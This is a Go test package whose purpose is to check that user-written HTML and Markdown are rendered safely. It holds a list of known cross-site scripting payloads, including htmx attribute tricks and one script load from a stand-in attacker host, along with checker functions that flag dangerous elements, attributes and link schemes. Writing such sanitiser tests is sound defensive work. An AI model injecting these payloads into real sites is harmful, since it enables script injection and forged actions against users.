// Package xsstest holds, for tests, known cross-site scripting payloads and
// the checks that none of them survived into a page. Anything that shows
// text people wrote as HTML (release notes, later comments) is tested with it.
package xsstest

import (
	"encoding/json"
	"fmt"
	"strings"

	"github.com/PuerkitoBio/goquery"
)

// Payloads are known XSS attacks, HTML and Markdown, including ones aimed at
// htmx (hx-* and data-hx-* attributes) and at clobbering the page's ids.
var Payloads = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<sVg/OnLoAd=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<body onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="https://example.com" onclick="alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	"[x](java\tscript:alert(1))",
	`[x]( javascript:alert(1))`,
	`[a](<javascript:alert(1)>)`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](https://example.com "title\" onmouseover=\"alert(1)")`,
	"[x][r]\n\n[r]: javascript:alert(1)",
	`![x](javascript:alert(1))`,
	`![x](x" onerror="alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	`<javascript:alert(1)>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<p style="color:red">x</p>`,
	`<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
	`<div hx-get="/logout" hx-trigger="load">x</div>`,
	`<div data-hx-post="/releases/1/decisions" data-hx-trigger="load">x</div>`,
	`<button hx-post="/logout" hx-trigger="load">x</button>`,
	`<div hx-on:click="alert(1)">x</div>`,
	`<div hx-on::load="alert(1)">x</div>`,
	`<span hx-swap-oob="true" id="gate">forged gate</span>`,
	`<a id="notice" href="#">x</a>`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<form><button formaction="javascript:alert(1)">x</button></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<link rel=stylesheet href="javascript:alert(1)">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<style>@import 'javascript:alert(1)';</style>`,
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`</textarea><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<video><source onerror="alert(1)">`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<xss id=x tabindex=1 onfocusin=alert(1)></xss>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<script src=//evil.example/x.js></script>`,
	`**bold**<img src=x onerror=alert(1)>`,
	"| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
	"- [ ] <script>alert(1)</script>\n- [x] <a href=javascript:alert(1)>x</a>",
	"```html\n<script>alert(1)</script>\n```",
	"> <iframe src=javascript:alert(1)>",
	`{{constructor.constructor('alert(1)')()}}`,
}

// dangerousElements never belong in text people wrote.
var dangerousElements = "script, style, iframe, frame, frameset, object, embed, applet, form, input, button, textarea, " +
	"select, keygen, link, meta, base, svg, math, template, noscript, video, audio, source, marquee"

// urlAttrs may carry a link a browser would follow or load.
var urlAttrs = []string{"href", "src", "action", "formaction", "background", "poster", "cite", "data", "xlink:href", "srcdoc"}

// Content lists what is wrong in a container of rendered user text: any
// dangerous element, any event handler, style, id, hx-* or data-* attribute,
// and any link that is not http, https, mailto or within the page.
func Content(sel *goquery.Selection) []string {
	var out []string
	sel.Find(dangerousElements).Each(func(_ int, s *goquery.Selection) {
		out = append(out, "element <"+goquery.NodeName(s)+">")
	})
	sel.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			name := strings.ToLower(a.Key)
			if a.Namespace != "" {
				name = a.Namespace + ":" + name
			}
			switch {
			case strings.HasPrefix(name, "on"), name == "style", name == "id", name == "class",
				strings.HasPrefix(name, "hx-"), strings.HasPrefix(name, "data-"):
				out = append(out, fmt.Sprintf("attribute %s=%q on <%s>", name, a.Val, goquery.NodeName(s)))
			case isURLAttr(name) && !safeURL(a.Val):
				out = append(out, fmt.Sprintf("link %s=%q on <%s>", name, a.Val, goquery.NodeName(s)))
			}
		}
	})
	return out
}

// Page lists what is wrong in a whole page that shows user text: scripts
// other than our own files, event handlers and styles anywhere, unsafe links
// anywhere, and whatever Content finds in each rendered Markdown container,
// which must also carry data-hx-disable.
func Page(doc *goquery.Document) []string {
	var out []string
	doc.Find("script").Each(func(_ int, s *goquery.Selection) {
		src, _ := s.Attr("src")
		if dataBlock(s) {
			return
		}
		if !strings.HasPrefix(src, "/static/") || strings.TrimSpace(s.Text()) != "" {
			out = append(out, fmt.Sprintf("script %q", src))
		}
	})
	doc.Find("style, iframe, object, embed, base, meta[http-equiv]").Each(func(_ int, s *goquery.Selection) {
		out = append(out, "element <"+goquery.NodeName(s)+">")
	})
	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			name := strings.ToLower(a.Key)
			hx := strings.TrimPrefix(name, "data-") // htmx reads both spellings
			switch {
			case strings.HasPrefix(name, "on") || name == "style" || hx == "hx-on" || strings.HasPrefix(hx, "hx-on:") ||
				strings.HasPrefix(hx, "hx-on-"):
				out = append(out, fmt.Sprintf("attribute %s=%q on <%s>", name, a.Val, goquery.NodeName(s)))
			case isURLAttr(name) && !safeURL(a.Val):
				out = append(out, fmt.Sprintf("link %s=%q on <%s>", name, a.Val, goquery.NodeName(s)))
			}
		}
	})
	doc.Find(".markdown").Each(func(_ int, s *goquery.Selection) {
		if _, ok := s.Attr("data-hx-disable"); !ok {
			out = append(out, "a Markdown container without data-hx-disable")
		}
		out = append(out, Content(s)...)
	})
	return out
}

// dataBlock reports whether a script element is a JSON data block (the
// insights' charts read theirs): a type browsers never run, no src, and a
// body that is JSON whole, so nothing broke out of it.
func dataBlock(s *goquery.Selection) bool {
	typ, _ := s.Attr("type")
	_, hasSrc := s.Attr("src")
	return typ == "application/json" && !hasSrc && json.Valid([]byte(s.Text()))
}

func isURLAttr(name string) bool {
	for _, u := range urlAttrs {
		if name == u {
			return true
		}
	}
	return false
}

// safeURL reports whether a link goes somewhere harmless: http, https,
// mailto, or a path or fragment of this site.
func safeURL(v string) bool {
	v = strings.ToLower(strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1 // browsers ignore these inside a scheme
		}
		return r
	}, v))
	scheme, _, hasScheme := strings.Cut(v, ":")
	if !hasScheme || strings.ContainsAny(scheme, "/?#") {
		return true // relative: no scheme before the first path, query or fragment
	}
	return scheme == "http" || scheme == "https" || scheme == "mailto"
}
